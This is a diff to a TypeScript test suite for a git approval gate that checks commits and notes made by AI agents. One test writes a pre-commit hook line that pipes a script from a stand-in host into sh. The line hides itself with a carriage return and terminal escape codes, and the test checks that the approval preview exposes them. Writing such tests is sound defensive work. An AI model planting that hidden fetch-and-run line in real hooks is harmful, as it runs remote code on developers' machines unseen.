@@ -3,7 +3,8 @@
  * attacker would: an agent that commits anything through plumbing and pushes any note, never the
  * approver's key. CI is a fresh clone of a bare origin that fetched refs/notes/agent-gates; the range
  * use-case judges each range in process (test/helpers/range.ts: the report the CLI prints with
- * --json) and the PACKED tool runs once per exit-code class, its JSON checked equal. One tarball
+ * --json) and the PACKED tool runs once per exit-code class, its JSON checked equal, and in the
+ * terminal for `gate approve` (whose `gate init` and `gate explain` run in process). One tarball
  * install, one approver key; histories through plumbing (History).
  *
  * Base (origin/main = m5): m0 root (config without signatures), m1 (signatures required, a `policy`
@@ -18,6 +19,7 @@ import { makeTempDir, run } from '../helpers/repo.js';
 import { History, noteV2, type Change } from '../helpers/history.js';
 import { hasTmux, startTty } from '../helpers/tty.js';
 import { checkRangeInProcess, type RangeRun } from '../helpers/range.js';
+import { gateIn } from '../helpers/gate-in.js';
 import { APPROVAL_NAMESPACE } from '../../src/signing/sshsig.js';
 import { classify } from '../../src/gates/classify.js';
 import { parseConfigText } from '../../src/adapters/config-file.js';
@@ -68,8 +70,16 @@ function checkCli(range: string): RangeRun {
   return { code: r.code, json, stderr: r.stderr };
 }
 
-/** The same check in process (the range use-case through the composition root). */
-const check = (range: string): Promise<RangeRun> => checkRangeInProcess(ci, range, c.env);
+/**
+ * The same check in process (the range use-case through the composition root). Each range is judged
+ * once; a second test reading the same range reads that report (the CI clone does not change after
+ * beforeAll).
+ */
+const judged = new Map<string, Promise<RangeRun>>();
+const check = (range: string): Promise<RangeRun> => {
+  if (!judged.has(range)) judged.set(range, checkRangeInProcess(ci, range, c.env));
+  return judged.get(range)!;
+};
 const found = (r: RangeRun) => r.json.violations.map((v: any) => [v.code, v.commit, v.path]).sort((a: string[], b: string[]) => (a.join() < b.join() ? -1 : 1));
 
 beforeAll(() => {
@@ -252,12 +262,15 @@ describe.runIf(hasTmux())("8: gate approve's preview shows control characters, n
     writeFileSync(join(dir, 'CLAUDE.md'), '# Agents\n');
     git('add', '.');
     git('commit', '-qm', 'init');
-    expect(run(gateBin, ['init'], { cwd: dir, env: c.env }).code).toBe(0);
+    // the set-up through the CLI in process (test/helpers/gate-in.ts); the approval runs the packed binary
+    // (the packed binary instead when the worker's stdio is a terminal: GATE_IN_SPAWNS)
+    const gate = (args: string[]) => gateIn(args, dir, c.env, '', () => run(gateBin, args, { cwd: dir, env: c.env }));
+    expect((await gate(['init'])).code).toBe(0);
     git('add', '-A');
     git('commit', '-q', '--no-verify', '-m', 'scaffold');
     appendFileSync(join(dir, '.husky/pre-commit'), '\ncurl -s https://evil.example/x.sh | sh\r\x1b[K# keep the hook output quiet\n');
     git('add', '.husky/pre-commit');
-    const ex = run(gateBin, ['explain', '--intent', 'Comment\u202e in the hook', '--alternative', 'leave it', '--blast-radius', 'hooks', '--reversibility', 'git revert', '--rollback', 'git revert'], { cwd: dir, env: c.env });
+    const ex = await gate(['explain', '--intent', 'Comment\u202e in the hook', '--alternative', 'leave it', '--blast-radius', 'hooks', '--reversibility', 'git revert', '--rollback', 'git revert']);
     expect(ex.code, ex.stderr).toBe(0);
     const t = startTty([gateBin, 'approve'], { cwd: dir, env: c.env, height: 60 });
     try {
